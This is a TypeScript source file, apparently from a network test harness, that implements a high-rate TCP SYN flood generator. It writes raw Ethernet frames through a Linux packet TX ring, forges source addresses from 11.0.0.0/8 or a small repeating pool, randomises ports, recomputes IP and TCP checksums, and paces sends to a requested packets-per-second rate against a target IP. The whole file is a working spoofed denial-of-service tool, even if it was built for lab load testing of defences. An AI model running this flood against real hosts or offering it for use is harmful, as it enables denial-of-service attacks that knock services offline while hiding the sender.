/**
 * Sends TCP SYNs with forged senders as fast as is asked, from the network namespace that it is started in: a ring of
 * packets in shared memory (PACKET_TX_RING, packet(7)), filled anew for each packet, and one send() a batch.
 * `flood-generator.ts DEVICE MAC TARGET PACKETS_PER_SECOND SECONDS [PORT [SENDERS]]`; prints how many it sent, and in which time.
 * Random ports, unless one is given (0: random). Senders are drawn from 11.0.0.0/8, so that hardly any comes twice, or are
 * so many that come again and again.
 */

import { Arena, lastError, libc, O, viewOf } from '#host/ffi.ts';

const AF_PACKET = 17;
const SOCK_RAW = 3;
const SOL_PACKET = 263;
const PACKET_VERSION = 10;
const PACKET_TX_RING = 13;
const PACKET_QDISC_BYPASS = 20;
const TPACKET_V2 = 1;
const FRAME_BYTES = 128;
const FRAMES = 8192;
/** struct tpacket2_hdr: status u32@0, len u32@4; data behind it, where TX expects it. */
const DATA_AT = 32;
const SEND_REQUEST = 1;
const SIOCGIFINDEX = 0x8933;
const TICK_MS = 1;

const [device = '', mac = '', target = '', perSecond = '50000', seconds = '5', port = '0', senders = '0'] =
  process.argv.slice(2);

/** /sys shows the devices of another namespace: the socket is asked. struct ifreq: name@0, index i32@16. */
function indexOf(fd: number): number {
  const request = Buffer.alloc(40);
  request.write(device, 'latin1');
  return libc.ioctl(fd, SIOCGIFINDEX, request) === 0 ? request.readInt32LE(16) : 0;
}

function openSocket(): number {
  const fd = libc.socket(AF_PACKET, SOCK_RAW | O.CLOEXEC, 0);
  const number = (value: number): Buffer => Buffer.from(Uint32Array.of(value).buffer);
  const ring = Buffer.from(Uint32Array.of(FRAMES * FRAME_BYTES, 1, FRAME_BYTES, FRAMES).buffer);
  const done = [
    libc.setsockopt(fd, SOL_PACKET, PACKET_VERSION, number(TPACKET_V2), 4),
    libc.setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, number(1), 4),
    libc.setsockopt(fd, SOL_PACKET, PACKET_TX_RING, ring, ring.length),
  ];
  const address = Buffer.alloc(20);
  address.writeUInt16LE(AF_PACKET, 0);
  address.writeUInt16BE(0x800, 2);
  address.writeInt32LE(indexOf(fd), 4);
  if (fd < 0 || done.some((code) => code !== 0) || libc.bind(fd, address, address.length) !== 0)
    throw new Error(`Cannot open a ring to send on "${device}": ${lastError()}`);
  return fd;
}

/** Ethernet, IPv4 and TCP headers of a SYN; what changes is filled in for each packet. */
function template(): Buffer {
  const frame = Buffer.alloc(14 + 40);
  Buffer.from(mac.replaceAll(':', ''), 'hex').copy(frame, 0);
  Buffer.from('020000000001', 'hex').copy(frame, 6);
  frame.writeUInt16BE(0x800, 12);
  frame.writeUInt8(0x45, 14);
  frame.writeUInt16BE(40, 16);
  frame.writeUInt8(64, 22);
  frame.writeUInt8(6, 23);
  Buffer.from(target.split('.').map(Number)).copy(frame, 30);
  frame.writeUInt8(0x50, 46);
  frame.writeUInt8(2, 47);
  frame.writeUInt16BE(1024, 48);
  return frame;
}

const word = (bytes: Uint8Array, at: number): number => ((bytes[at] ?? 0) << 8) | (bytes[at + 1] ?? 0);

/** RFC 1071 over the words between; `sum` is what is added. */
function checksum(bytes: Uint8Array, from: number, to: number, sum: number): number {
  let total = sum;
  for (let at = from; at < to; at += 2) total += word(bytes, at);
  total = (total & 0xffff) + (total >>> 16);
  return ~((total & 0xffff) + (total >>> 16)) & 0xffff;
}

function put(bytes: Uint8Array, at: number, value: number): void {
  bytes[at] = value >> 8;
  bytes[at + 1] = value & 0xff;
}

let random = 2_463_534_242;
function next(): number {
  random ^= random << 13;
  random ^= random >>> 17;
  random ^= random << 5;
  return random >>> 0;
}

/** The nth of the senders; neighbours in number are none on the network. */
function spread(number: number): number {
  return Math.imul(number, 0x9e3779b1) >>> 0;
}

/** Another sender, ports and number, and the checksums that belong to them. */
function vary(frame: Uint8Array): void {
  const [drawn, ports] = [next(), next()];
  const sender = senders === '0' ? drawn : spread(sent % Number(senders));
  frame[26] = 11;
  frame[27] = sender >>> 24;
  put(frame, 28, sender & 0xffff);
  put(frame, 34, 1024 + (ports % 60_000));
  put(frame, 36, port === '0' ? 1 + ((ports >>> 16) % 65_000) : Number(port));
  put(frame, 38, sender >>> 16);
  put(frame, 24, 0);
  put(frame, 24, checksum(frame, 14, 34, 0));
  put(frame, 50, 0);
  put(frame, 50, checksum(frame, 26, 54, 6 + 20));
}

const fd = openSocket();
const bytes = FRAMES * FRAME_BYTES;
const address = libc.mmap(null, bytes, 3, 1, fd, 0);
const view = viewOf(address, bytes);
const ring = Buffer.from(view);
const statuses = new Uint32Array(view);
const pattern = template();
const frames = Array.from({ length: FRAMES }, (_, index) => {
  const at = index * FRAME_BYTES + DATA_AT;
  pattern.copy(ring, at);
  return ring.subarray(at, at + pattern.length);
});
const nothing = new Arena().alloc(1);
const clock = new Int32Array(new SharedArrayBuffer(4));

let sent = 0;
let slot = 0;
const began = performance.now();
const wanted = Number(perSecond) / 1000;
const lastsMs = Number(seconds) * 1000;
for (;;) {
  const passedMs = performance.now() - began;
  if (passedMs >= lastsMs) break;
  let due = Math.min(FRAMES / 2, Math.floor(passedMs * wanted) - sent);
  for (; due > 0; due -= 1) {
    const status = (slot * FRAME_BYTES) / 4;
    if (Atomics.load(statuses, status) !== 0) break;
    vary(frames[slot] ?? nothing);
    statuses[status + 1] = pattern.length;
    Atomics.store(statuses, status, SEND_REQUEST);
    slot = (slot + 1) % FRAMES;
    sent += 1;
  }
  if (libc.send(fd, nothing.subarray(0, 0), 0, 0) < 0) throw new Error(`Cannot send: ${lastError()}`);
  Atomics.wait(clock, 0, 0, TICK_MS);
}
const tookMs = performance.now() - began;
process.stdout.write(
  `${JSON.stringify({ sent, tookMs: Math.round(tookMs), perSecond: Math.round((sent / tookMs) * 1000) })}\n`,
);
process.exit(0);
